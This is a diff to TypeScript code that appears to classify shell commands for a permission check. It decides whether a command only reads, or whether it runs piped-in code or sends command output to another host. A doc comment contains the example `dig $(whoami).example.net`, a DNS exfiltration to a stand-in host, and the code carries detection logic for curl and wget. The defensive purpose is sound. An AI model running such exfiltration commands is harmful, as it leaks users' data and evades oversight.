@@ -51,7 +51,7 @@ const TRANSPARENT = new Set<SyntaxNode["type"]>([
 ]);
 
 /**
- * "read_only" only where each part of the command is on the allow-list. "changes_state" where a part is known to change
+ * "read_only" only where each part of the command is on the allow-list, or where the text is a query that no shell runs. "changes_state" where a part is known to change
  * something or to write a file. `null` for anything else: an unknown program, an unknown option, text that does not parse.
  */
 export function commandEffect(command: string): CommandEffect {
@@ -158,6 +158,7 @@ function runsItsInput(command: Command): boolean {
   const at = interpreterAt(command);
   if (at === -1) return false;
   const words = wordsOf(command).map(({ value }) => value);
+  // Options are no script; after -c, -e and -m stands code or a module.
   const [script = "-"] = words.slice(at + 1).filter((word) => !/^-[a-bdf-ln-z]+$|^--\w/.test(word));
   return words.includes("xargs") || /^(?:-|--|\/dev\/stdin)$/.test(script) || words.slice(at + 1).includes("-s");
 }
@@ -184,7 +185,7 @@ function isSubstituted({ parts = [] }: Word): boolean {
 
 /** Whether the output of another command goes to another host, as in `dig $(whoami).example.net`. */
 function sendsOutput(name: Word, args: Command["args"]): boolean {
-  // A header may hold a token of a file.
+  // Only the address counts: a header may hold a token that is read from a file.
   const isAddress = SENDS_ARGUMENTS.has(name.value) ? /./ : /^(?:curl|wget)$/.test(name.value) ? /:\/\// : null;
   return args.some((word) => word.type === "Word" && isAddress?.test(word.text) && isSubstituted(word));
 }
